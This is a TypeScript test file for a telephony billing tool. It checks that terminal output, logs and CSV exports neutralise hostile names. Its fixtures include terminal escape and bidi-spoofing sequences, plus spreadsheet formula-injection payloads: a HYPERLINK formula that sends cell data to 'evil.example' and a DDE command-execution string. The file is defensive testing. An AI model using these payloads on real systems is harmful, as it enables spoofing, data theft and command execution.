import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import { printable } from '../../control/base/printable.ts';
import { systemRandom } from '../../control/base/random.ts';
import { sidFactory } from '../../control/base/sid.ts';
import { csv } from '../../control/billing/export/formats.ts';
import { withBooks } from '../../control/cli/books.ts';
import { Alerts } from '../../control/events/alerts.ts';
import { localBus } from '../../control/events/bus.ts';
import { eventText } from '../../control/events/words.ts';
import { createLog } from '../../control/log/pino.ts';
import { commandLine } from '../support/command-line.ts';
import { FakeClock } from '../support/fake-clock.ts';

/** What a tenant, a caller or a carrier may call himself: clears the screen, renames the window, hides and reorders. */
const name = 'Ann\u001b[2J\u001b]0;owned\u0007\u009b31m\u202etxt.exe\u2066\rBob\u0000\u007f\u0085';

/** Whether a terminal would obey anything in it. */
const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;

const folder = mkdtempSync(join(tmpdir(), 'strowger-enemy-'));
after(() => rmSync(folder, { recursive: true, force: true }));

describe('names and texts of others', () => {
  it('say nothing to the terminal of whoever lists them', async () => {
    const file = join(folder, 'strowger.yaml');
    const data = join(folder, 'data');
    writeFileSync(file, `data: ${data}\n`);
    const run = commandLine(file);
    const made = await run('account', 'create', '--friendly-name', name, '--json');
    const { sid } = made.json as { sid: string };
    const clock = new FakeClock();
    await withBooks({ data }, async ({ store }) => {
      const bus = localBus(() => undefined);
      const alerts = new Alerts({ store, clock, makeSid: sidFactory(clock, systemRandom), bus });
      alerts.record({
        accountSid: sid,
        resourceSid: sid,
        code: 11200,
        detail: name,
        request: null,
      });
      await store.durable();
    });
    for (const argv of [
      ['account', 'list'],
      ['account', 'list', '--json'],
      ['audit'],
      ['audit', '--json'],
      ['trace', '--no-follow'],
      ['trace', '--no-follow', '--json'],
      ['usage'],
      ['number', 'list'],
    ]) {
      const { status, out } = await run(...argv);
      assert.equal(status, 0, argv.join(' '));
      assert.doesNotMatch(out, obeyed, argv.join(' '));
    }
    // Nothing is lost of it for a program.
    const listed = (await run('account', 'list', '--json')).json as { friendly_name: string }[];
    assert.ok(JSON.stringify(listed).includes(JSON.stringify(name).slice(1, -1)));
    assert.match((await run('account', 'list')).out, /Ann\\u001b\[2J/);
    const refused = await run('account', 'close', name);
    assert.equal(refused.status, 1);
    assert.doesNotMatch(refused.err, obeyed);
  });

  it('say nothing to who reads the log or follows the trace', () => {
    const lines: string[] = [];
    const log = createLog('info', { write: (line) => void lines.push(line) });
    log.child({ carrier: name }).info({ name, deep: { name: [name] }, error: new Error(name) }, 'refused');
    assert.equal(lines.length, 1);
    assert.doesNotMatch(lines[0]!.trimEnd(), obeyed);
    assert.equal(lines[0]!.trimEnd().split('\n').length, 1);
    const shown = eventText({
      type: 'link.state',
      atMs: 0,
      carrier: name,
      state: 'up',
      detail: `${name}\n12:00:00 SM1 forged`,
    });
    assert.doesNotMatch(shown, obeyed);
    assert.doesNotMatch(shown, /\n/);
  });

  it('are shown by escapes, and JSON stays what it was, whatever they are', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        assert.doesNotMatch(printable(text), /[^\P{Cc}\t\n\r]/u);
        const json = JSON.stringify({ text });
        assert.deepEqual(JSON.parse(printable(json)), JSON.parse(json));
        assert.equal(printable(printable(text)), printable(text));
      }),
    );
    assert.equal(printable('naïve 😀\ta\r\nb'), 'naïve 😀\ta\r\nb');
  });
});

describe('detail records as CSV', () => {
  const lineOf = (from: string): string =>
    csv.line(
      {
        number: 1,
        atMs: 0,
        accountSid: 'AC1',
        ownerSid: 'AC1',
        resourceSid: 'CA1',
        part: 0,
        category: 'calls-inbound',
        count: 1,
        usage: 1,
        seconds: 1,
        priceMicros: 1,
        from,
        to: '+14155550100',
        carrier: 'alpha',
        carrierId: 'x',
      } as unknown as Parameters<typeof csv.line>[0],
      'USD',
    );

  it('are no formulas of a spreadsheet, whatever a caller calls himself', () => {
    for (const from of [
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
    ]) {
      const field = lineOf(from);
      assert.match(field, /,"?'[=+\-@\t\r]/, from);
      assert.ok(field.includes(from.replaceAll('"', '""')), 'and nothing of it is lost');
    }
  });

  it('leave numbers and names as they are', () => {
    for (const from of ['+14155550100', '-1.5', '12345', 'ACME', 'sip:jo@example.com'])
      assert.ok(lineOf(from).includes(`,${from},+14155550100,`), from);
  });
});
